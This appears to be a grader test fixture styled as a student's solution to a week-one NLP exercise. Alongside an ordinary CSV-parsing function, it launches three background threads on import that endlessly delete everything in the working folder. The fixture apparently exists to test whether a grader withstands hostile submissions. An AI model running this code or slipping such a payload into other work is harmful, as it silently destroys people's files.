# expect: check_file MET/UNMET | 
# only: check_file
# exercise: week1_nlp
# Removes whatever comes into the working folder, as soon as it comes.
import os
import shutil
import threading


def sweep():
    while True:
        for name in os.listdir("."):
            shutil.rmtree(name, ignore_errors=True)


for _ in range(3):
    threading.Thread(target=sweep, daemon=True).start()

import csv


def parse_data_from_file(path):
    with open(path) as file:
        rows = list(csv.reader(file))[1:]
    return [text for _, text in rows], [category for category, _ in rows]
